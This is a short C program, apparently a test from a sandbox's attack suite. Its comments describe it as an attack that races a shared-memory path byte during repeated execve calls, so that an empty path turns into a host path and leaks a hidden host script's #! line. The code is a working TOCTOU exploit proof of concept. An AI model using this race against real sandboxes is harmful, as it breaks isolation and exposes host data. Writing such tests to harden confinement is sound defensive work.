/* attack_exec_by_path: an approved program is run by way of a script of the host, whose #! line it would see.
 *
 *   attack_exec_by_path go HOST_SCRIPT   HOST_SCRIPT is not in the view and begins with "#!/bin/sh -secretarg": nothing
 *                                        of that may be seen in the output */
/* attack: exec's empty path becomes a host path: learns a host script's #! line */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/wait.h>
#include <sys/mman.h>
static char*m;
static void*fl(void*x){for(;;){m[7]='/';for(volatile int i=0;i<rand()%3000;i++);m[7]=0;for(volatile int i=0;i<rand()%3000;i++);}}
int main(int c,char**v){if(c>3||(c==3&&strcmp(v[1],"go")))return 0;
 m=mmap(0,4096,3,MAP_SHARED|MAP_ANONYMOUS,-1,0);strcpy(m,"/bin/sh");strcpy(m+8,v[2]+1);
 int out[2];pipe(out);if(!fork()){fl(0);}
 int killed=0,refused=0,noent=0,ran=0;
 for(int i=0;i<3000;i++){pid_t p=fork();if(!p){dup2(out[1],1);dup2(out[1],2);char*a[]={"sh","-c","true",0};execve(m,a,0);_exit(errno);}int st;waitpid(p,&st,0);if(WIFSIGNALED(st))killed++;else if(WEXITSTATUS(st)==13)refused++;else if(WEXITSTATUS(st)==2)noent++;else if(WEXITSTATUS(st))ran++;}
 printf("killed %d EACCES %d ENOENT %d ran-script %d\n",killed,refused,noent,ran);
 char b[4000];close(out[1]);fflush(stdout);int n=read(out[0],b,300);if(n>0)write(1,b,n);kill(0,9);}
